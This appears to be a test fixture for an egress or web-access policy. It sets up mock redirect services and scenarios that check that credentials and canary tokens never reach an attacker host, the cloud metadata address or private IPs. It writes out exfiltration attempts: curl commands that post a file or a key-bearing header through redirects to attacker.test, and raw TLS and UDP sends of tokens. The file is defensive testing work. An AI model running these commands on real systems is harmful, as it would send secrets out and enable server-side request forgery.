# Answers that lead elsewhere: each new request is judged for itself.

service "redirects" {
  host = "redirect.example.com"
  respond {
    path    = "/to/attacker"
    status  = 302
    headers = { Location = "https://attacker.test/" }
  }
  respond {
    path    = "/to/loopback"
    status  = 302
    headers = { Location = "http://127.0.0.1:8080/" }
  }
  respond {
    path    = "/to/metadata"
    status  = 302
    headers = { Location = "http://169.254.169.254/latest/" }
  }
  respond {
    path    = "/to/clear"
    status  = 301
    headers = { Location = "http://attacker.test/" }
  }
  respond {
    path    = "/to/private"
    status  = 303
    headers = { Location = "http://10.0.0.7/" }
  }
  respond {
    path    = "/to/port"
    status  = 307
    headers = { Location = "https://attacker.test:8443/" }
  }
  respond {
    path    = "/to/kept"
    status  = 308
    headers = { Location = "https://attacker.test/upload" }
  }
  respond {
    path    = "/to/item"
    status  = 302
    headers = { Location = "https://echo.example.com/v1/items/7" }
  }
}

scenario "redirect-to-where-nothing-is-granted" {
  describe = "a granted host answers with another address, and the client follows with all that it has"
  cases    = ["REDIR-01", "CRED-04", "CRED-05", "HOST-12", "USE-17"]
  policy   = "policies/web.hcl"
  for_each = ["attacker", "metadata", "clear", "private", "port"]
  attempt {
    http {
      url     = "https://redirect.example.com/to/${each.value}"
      headers = { X-Note = canary.token }
      follow  = true
    }
  }
  expect {
    verdict = "deny"
    leak    = none
    arrives = ["GET https://redirect.example.com/to/${each.value}"]
  }
}

scenario "redirect-that-keeps-a-body" {
  describe = "307: the client sends the body once more, to the new host"
  cases    = ["REDIR-02"]
  policy   = "policies/web.hcl"
  given {
    file "report.json" { text = "{\"passed\":1,\"failed\":0}" }
    file "notes.txt" { text = canary.token }
  }
  attempt {
    run { command = ["curl", "-sS", "-L", "--data-binary", "@notes.txt", "https://redirect.example.com/to/kept"] }
  }
  expect {
    verdict = "deny"
    reason  = ["method_not_granted", "body_not_granted", "no_grant"]
    leak    = none
  }
}

scenario "redirect-with-headers-that-hold-keys" {
  describe = "curl follows to another host with headers of its own making"
  cases    = ["CRED-04", "CRED-05"]
  policy   = "policies/web.hcl"
  given {
    env = { KEY = canary.key }
  }
  attempt {
    run { command = ["sh", "-c", "curl -sS -L --location-trusted -H \"X-Note: $KEY\" https://redirect.example.com/to/attacker"] }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
    arrives = ["GET https://redirect.example.com/to/attacker"]
  }
}

service "host that advertises another endpoint" {
  host = "internal.example.com"
  respond {
    headers = { Alt-Svc = "h3=\"attacker.test:443\"; ma=86400, h2=\"attacker.test:8443\"" }
    body    = "{}"
  }
}

scenario "endpoint-that-a-header-advertises" {
  describe = "Alt-Svc of an answer leads to another host, port and protocol"
  cases    = ["REDIR-03", "NET-01"]
  policy   = "policies/web.hcl"
  attempt {
    raw {
      connect = "attacker.test:8443"
      tls     = true
      bytes   = crlf("GET /v1/items/1 HTTP/1.1\nHost: echo.example.com\nX-Note: ${canary.token}\n\n")
    }
  }
  attempt {
    udp {
      to    = "attacker.test:443"
      bytes = canary.token
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}
